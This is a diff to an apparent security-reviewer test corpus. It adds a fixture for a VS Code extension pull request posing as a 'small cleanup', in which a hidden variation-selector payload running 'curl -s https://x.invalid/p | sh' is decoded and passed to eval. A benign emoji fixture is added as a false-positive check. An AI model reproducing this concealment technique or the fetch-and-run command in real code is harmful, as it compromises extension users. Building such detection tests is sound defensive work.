@@ -37,6 +37,10 @@ function attackPr(spec: AttackPr): PrFixture {
 
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
+const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
+/** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
+const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
+
 export const ATTACK_CASES: CorpusEntry[] = [
   {
     id: 'attack-go-module-init-wget-bash',
@@ -195,5 +199,53 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-extension-variation-selector-payload',
+    description: 'Koi Security and Aikido, 2025 (GlassWorm VS Code extensions, os-info-checker-es6): a "cleanup" adds an empty-looking template string of variation selectors that a line beside it decodes and evaluates.',
+    fixture: () =>
+      attackPr({
+        repo: 'vscode-tidy',
+        number: 7107,
+        title: 'refactor: small cleanup',
+        files: [
+          {
+            path: 'src/extension.js',
+            base: EXTENSION_BASE,
+            head:
+              EXTENSION_BASE +
+              lines(
+                'const s = (v) => [...v].map((w) => ((w = w.codePointAt(0)), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);',
+                `eval(Buffer.from(s(\`${HIDDEN}\`)).toString('utf-8'));`,
+              ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['invisible-character'], drivers: ['finding:invisible-character'] },
+  },
+  {
+    id: 'attack-extension-emoji-messages',
+    description: "The same extension's status messages gain emoji: presentation selectors, a joined family, a rainbow flag, a keycap and a subdivision flag.",
+    fixture: () =>
+      attackPr({
+        repo: 'vscode-tidy',
+        number: 7108,
+        title: 'feat: friendlier status messages',
+        files: [
+          {
+            path: 'src/messages.js',
+            base: lines("'use strict';", '', "exports.done = 'Tidied';", "exports.failed = 'Could not tidy';"),
+            head: lines(
+              "'use strict';",
+              '',
+              "exports.done = '\u2714\uFE0F Tidied';",
+              "exports.failed = '\u26A0\uFE0F Could not tidy';",
+              "exports.team = 'Made by \u{1F468}\u200D\u{1F469}\u200D\u{1F467} with \u2764\uFE0F and \u{1F3F3}\uFE0F\u200D\u{1F308} #\uFE0F\u20E3';",
+              `exports.home = 'From ${String.fromCodePoint(0x1f3f4, 0xe0067, 0xe0062, 0xe0077, 0xe006c, 0xe0073, 0xe007f)}';`,
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
   },
 ];
